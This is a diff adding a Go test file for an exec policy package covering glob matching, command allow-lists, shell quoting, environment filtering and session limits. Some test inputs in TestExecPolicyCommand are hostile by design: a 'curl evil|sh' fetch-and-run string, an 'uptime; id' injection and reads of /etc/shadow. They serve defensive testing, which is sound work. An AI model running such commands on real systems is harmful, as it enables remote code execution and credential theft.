@@ -0,0 +1,130 @@
+package policy
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestGlobMatch(t *testing.T) {
+	cases := []struct {
+		pattern, s string
+		matched    bool
+	}{
+		{"", "", true},
+		{"", "a", false},
+		{"abc", "abc", true},
+		{"abc", "abd", false},
+		{"a?c", "abc", true},
+		{"a?c", "ac", false},
+		{"*", "", true},
+		{"*", "anything", true},
+		{"a*", "a", true},
+		{"a*c", "abbbc", true},
+		{"a*c", "abbbd", false},
+		{"*.log", "/var/log/x.log", true},
+		{"**x", "x", true},
+		{"a*b*c", "aXbYbZc", true},
+		{"a*b?c", "abXbc", false},
+		{"*a*", "bab", true},
+		{"?*", "", false},
+		{"a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b", strings.Repeat("a", 100), false},
+	}
+	for _, c := range cases {
+		if matched := globMatch(c.pattern, c.s); matched != c.matched {
+			t.Errorf("globMatch(%q, %q) = %v", c.pattern, c.s, matched)
+		}
+	}
+}
+
+func TestExecPolicyCommand(t *testing.T) {
+	p := &ExecPolicy{Commands: []string{"ls *", "cat /var/log/*", "uptime"}}
+	cases := []struct {
+		args    []string
+		allowed bool
+	}{
+		{[]string{"ls"}, true},
+		{[]string{"ls", "-la", "/tmp"}, true},
+		{[]string{"ls", "x; curl evil|sh"}, true}, // a single arg, harmless without shell
+		{[]string{"ls -la"}, false},
+		{[]string{"lsblk"}, false},
+		{[]string{"cat", "/var/log/syslog"}, true},
+		{[]string{"cat", "/var/log/syslog", "/etc/shadow"}, false},
+		{[]string{"cat", "/etc/shadow"}, false},
+		{[]string{"uptime"}, true},
+		{[]string{"uptime", "-p"}, false},
+		{[]string{"uptime; id"}, false},
+		{nil, false},
+	}
+	for _, c := range cases {
+		args, err := p.Command(c.args)
+		if (err == nil) != c.allowed {
+			t.Errorf("Command(%q) = %v, allowed %v expected", c.args, err, c.allowed)
+		}
+		if err == nil && !reflect.DeepEqual(args, c.args) {
+			t.Errorf("Command(%q) = %q", c.args, args)
+		}
+	}
+
+	p.Shell = "/bin/sh"
+	args, err := p.Command([]string{"ls", "x; curl evil|sh", "it's"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cmdline := `'ls' 'x; curl evil|sh' 'it'\''s'`; !reflect.DeepEqual(args, []string{"/bin/sh", "-c", cmdline}) {
+		t.Errorf("unexpected shell command %q", args)
+	}
+
+	if _, err := (&ExecPolicy{}).Command([]string{"anything", "goes"}); err != nil {
+		t.Errorf("empty commands expected to allow all, got %v", err)
+	}
+}
+
+func TestExecPolicyEnviron(t *testing.T) {
+	t.Setenv("TNET_TEST_KEEP", "1")
+	t.Setenv("TNET_TEST_DROP", "2")
+	if env := (&ExecPolicy{}).Environ(); env != nil {
+		t.Errorf("unrestricted environment expected to be nil, got %q", env)
+	}
+
+	env := (&ExecPolicy{Env: []string{"TNET_TEST_K*"}, SetEnv: []string{"FOO=bar"}}).Environ()
+	if !reflect.DeepEqual(env, []string{"TNET_TEST_KEEP=1", "FOO=bar"}) {
+		t.Errorf("unexpected environment %q", env)
+	}
+	if env := (&ExecPolicy{Env: []string{}}).Environ(); env == nil || len(env) != 0 {
+		t.Errorf("empty environment expected, got %q", env)
+	}
+}
+
+func TestExecPolicyAcquire(t *testing.T) {
+	p := &ExecPolicy{MaxSessions: 2}
+	r1, err := p.Acquire()
+	if err != nil {
+		t.Fatal(err)
+	}
+	r2, err := p.Acquire()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := p.Acquire(); err != ErrTooManySessions {
+		t.Errorf("Acquire() = %v, ErrTooManySessions expected", err)
+	}
+	r1()
+	r1() // release is idempotent
+	r3, err := p.Acquire()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := p.Acquire(); err != ErrTooManySessions {
+		t.Errorf("Acquire() = %v, ErrTooManySessions expected", err)
+	}
+	r2()
+	r3()
+
+	unlimited := &ExecPolicy{}
+	for i := 0; i < 10; i++ {
+		if _, err := unlimited.Acquire(); err != nil {
+			t.Fatal(err)
+		}
+	}
+}